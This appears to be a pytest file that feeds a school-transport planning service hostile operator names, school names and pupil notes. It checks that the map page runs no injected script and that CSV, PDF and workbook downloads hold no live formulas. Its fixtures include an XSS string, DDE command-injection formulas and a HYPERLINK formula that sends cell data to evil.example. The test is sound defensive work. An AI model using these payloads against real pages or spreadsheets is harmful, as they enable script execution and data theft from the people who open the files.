"""Hostile text through the service, end to end: script in an operator's name, formulas in
names and notes, long notes, a long operator name and a long vehicle type. Every output still
renders, no data runs as script in the map page, and no cell of any CSV or workbook download
runs as a formula."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook

from api.headers import inline_script_hashes
from tests.api.helpers import DATASET_FILES, QUICK_PLAN, upload, wait_for

SCRIPT = "Wight</script><script>alert(document.domain)</script>Cars"
HOSTILE_OPERATOR = SCRIPT + " of Newport" * 30  # ~380 characters: longer than a file name
FORMULA_OPERATOR = "=cmd|' /C calc'!A0"
FORMULA_SCHOOL = '=HYPERLINK("http://evil.example/?x="&A1,"Ryde Primary")'
LONG_VEHICLE = "WAV" + " with a side ramp" * 200  # ~3,400 characters
NOTE = "Needs a calm approach; speak slowly and wait for an answer. " * 14  # ~840 characters
NOTES = {
    "P1": NOTE,  # one long note
    "P2": NOTE[:250],  # and three of 250 at one school
    "P6": NOTE[:250],
    "P3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "P4": "+1+1",
    "P5": FORMULA_SCHOOL,
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _rewrite(text: bytes, change) -> bytes:
    rows = list(csv.DictReader(io.StringIO(text.decode())))
    for row in rows:
        change(row)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def _fleet(row: dict) -> None:
    if row["operator"] == "Wight Cars":
        row["operator"], row["vehicle_type"] = HOSTILE_OPERATOR, LONG_VEHICLE
    else:
        row["operator"] = FORMULA_OPERATOR


def _school(row: dict) -> None:
    if row["school_id"] == "S1":
        row["name"] = FORMULA_SCHOOL


HOSTILE_FILES = {
    **DATASET_FILES,
    "pupils.csv": _rewrite(
        DATASET_FILES["pupils.csv"], lambda r: r.update(notes=NOTES[r["pupil_id"]])
    ),
    "schools.csv": _rewrite(DATASET_FILES["schools.csv"], _school),
    "fleet.csv": _rewrite(DATASET_FILES["fleet.csv"], _fleet),
}


@pytest.fixture(scope="module")
def hostile(api):
    """The tiny dataset with hostile names and notes, planned: (dataset id, plan id)."""
    response = upload(api, HOSTILE_FILES, name="=1+1 council")
    assert response.status_code == 201, response.text
    dataset_id = response.json()["id"]
    job = wait_for(api, api.post(f"/datasets/{dataset_id}/plans", json=QUICK_PLAN).json()["id"])
    assert job["status"] == "succeeded", job
    return dataset_id, job["plan_id"]


def _cells_start_safely(rows) -> list[str]:
    """Every cell of CSV ``rows``; none may start as a formula."""
    cells = [c for row in rows for c in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or _number(cell), cell
    return cells


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_map_page_runs_none_of_the_data(api, hostile):
    _, plan_id = hostile
    page = api.get(f"/plans/{plan_id}/map")
    assert page.status_code == 200, page.text
    assert "alert(document.domain)</script>" not in page.text
    assert page.text.lower().count("<script") == page.text.lower().count("</script>")
    policy = page.headers["content-security-policy"]
    script_src = next(d for d in policy.split(";") if d.strip().startswith("script-src"))
    assert "'unsafe-inline'" not in script_src
    assert all(h in script_src for h in inline_script_hashes(page.text))


def test_every_operators_sheets_render_and_hold_no_formula(api, hostile):
    _, plan_id = hostile
    seen: list[str] = []
    for operator in (HOSTILE_OPERATOR, FORMULA_OPERATOR):
        pdf = api.get(f"/plans/{plan_id}/sheets.pdf", params={"operator": operator})
        assert pdf.status_code == 200, pdf.text[:300]
        assert pdf.content.startswith(b"%PDF")
        sheet = api.get(f"/plans/{plan_id}/sheets.csv", params={"operator": operator})
        assert sheet.status_code == 200, sheet.text[:300]
        seen += _cells_start_safely(_csv_rows(sheet.content))
    assert "'" + FORMULA_OPERATOR in seen or any("'" + FORMULA_SCHOOL in c for c in seen)
    every = api.get(f"/plans/{plan_id}/sheets.zip")
    assert every.status_code == 200, every.text[:300]
    with zipfile.ZipFile(io.BytesIO(every.content)) as archive:
        names = archive.namelist()
    assert len(names) == 4 and all(len(n) < 200 for n in names)


def test_finance_downloads_hold_no_formula(api, hostile):
    _, plan_id = hostile
    table = api.get(f"/plans/{plan_id}/finance.csv")
    assert table.status_code == 200
    _cells_start_safely(_csv_rows(table.content))
    book = load_workbook(io.BytesIO(api.get(f"/plans/{plan_id}/finance.xlsx").content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                texts.append(str(cell.value))
    assert any(t.startswith("=") for t in texts)  # kept as text, shown as written


def _later(document: dict, operator: str, minutes: int) -> dict:
    """The plan with every stop of ``operator``'s routes ``minutes`` later."""

    def shift(text: str | None) -> str | None:
        if text is None:
            return None
        h, m, s = map(int, text.split(":"))
        total = h * 3600 + m * 60 + s + minutes * 60
        return f"{total // 3600:02d}:{total // 60 % 60:02d}:{total % 60:02d}"

    document = json.loads(json.dumps(document))
    for route in document["routes"]:
        if route["operator"] == operator:
            for stop in route["stops"]:
                for key in ("arrive", "depart"):
                    if stop.get(key):
                        stop[key] = shift(stop[key])
    return document


def test_the_per_pupil_change_lists_hold_no_formula(api, hostile):
    dataset_id, plan_id = hostile
    document = _later(api.get(f"/plans/{plan_id}/json").json(), FORMULA_OPERATOR, 90)
    later = api.post("/plans", json={"dataset_id": dataset_id, "plan": document})
    assert later.status_code == 201, later.text
    later_id = later.json()["id"]

    compared = api.get("/plans/compare/changes.csv", params={"a": plan_id, "b": later_id})
    assert compared.status_code == 200, compared.text
    cells = _cells_start_safely(_csv_rows(compared.content))
    assert "'" + FORMULA_OPERATOR in cells

    replan = api.post(
        f"/datasets/{dataset_id}/replan", json={"current_plan_id": later_id, **QUICK_PLAN}
    )
    assert replan.status_code == 202, replan.text
    job = wait_for(api, replan.json()["id"])
    assert job["status"] == "succeeded", job
    changes = api.get(f"/plans/{job['plan_id']}/changes.csv")
    assert changes.status_code == 200, changes.text
    cells = _cells_start_safely(_csv_rows(changes.content))
    assert "'" + FORMULA_OPERATOR in cells
